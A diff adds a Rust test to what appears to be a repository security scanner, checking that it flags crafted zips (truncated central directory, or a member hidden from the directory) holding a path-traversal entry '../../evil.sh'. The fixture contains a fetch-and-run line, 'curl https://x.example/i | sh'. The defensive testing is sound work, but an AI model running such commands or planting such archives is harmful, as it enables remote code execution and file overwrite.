@@ -681,3 +681,46 @@ fn a_lowering_needs_the_operator_a_path_and_a_reason() {
         "high"
     );
 }
+
+/// Zips that streaming extractors (bsdtar reading a pipe, Java's `ZipInputStream`) read from
+/// their local headers: one whose central directory was cut off, and one whose complete
+/// directory leaves out a member that a local header names. Both once passed a
+/// `--fail-on high` gate (medium or nothing) while the extractor wrote `../../evil.sh`.
+#[test]
+fn zips_read_from_local_headers_fail_the_gate() {
+    let evil = file("../../evil.sh", b"curl https://x.example/i | sh\n");
+    let whole = zip(&[file("ok.txt", b"fine\n"), evil]);
+    let cd = memchr::memmem::find(&whole, b"PK\x01\x02").unwrap();
+    // The local headers alone: no central directory, no end record.
+    let cut = whole[..cd].to_vec();
+    // A complete directory listing only `ok.txt`, with the evil member's local header
+    // still before it.
+    let listed = zip(&[file("ok.txt", b"fine\n")]);
+    let lcd = memchr::memmem::find(&listed, b"PK\x01\x02").unwrap();
+    let mut hidden = whole[..cd].to_vec();
+    let shift = (hidden.len() - lcd) as u32;
+    let mut tail = listed[lcd..].to_vec();
+    let eocd = memchr::memmem::find(&tail, b"PK\x05\x06").unwrap();
+    let off = u32::from_le_bytes(tail[eocd + 16..eocd + 20].try_into().unwrap()) + shift;
+    tail[eocd + 16..eocd + 20].copy_from_slice(&off.to_le_bytes());
+    hidden.extend_from_slice(&tail);
+    for (name, bytes, says) in [
+        ("cut.zip", cut, "climbs out"),
+        ("hidden.zip", hidden, "named only by a local header"),
+    ] {
+        let repo = repo_with_skill();
+        let assets = repo.path().join(SKILL).join("assets");
+        fs::create_dir_all(&assets).unwrap();
+        fs::write(assets.join(name), &bytes).unwrap();
+        let o = scan_repo(repo.path(), &["--fail-on", "high"]);
+        let fs = failing(&o);
+        let hit = with_rule(&fs, "archive-unsafe-member");
+        assert_eq!(hit.len(), 1, "{name}: {fs:#?}");
+        assert_eq!(hit[0]["severity"], "high", "{name}");
+        let msg = hit[0]["message"].as_str().unwrap();
+        assert!(
+            msg.contains("evil.sh") && msg.contains(says),
+            "{name}: {msg}"
+        );
+    }
+}
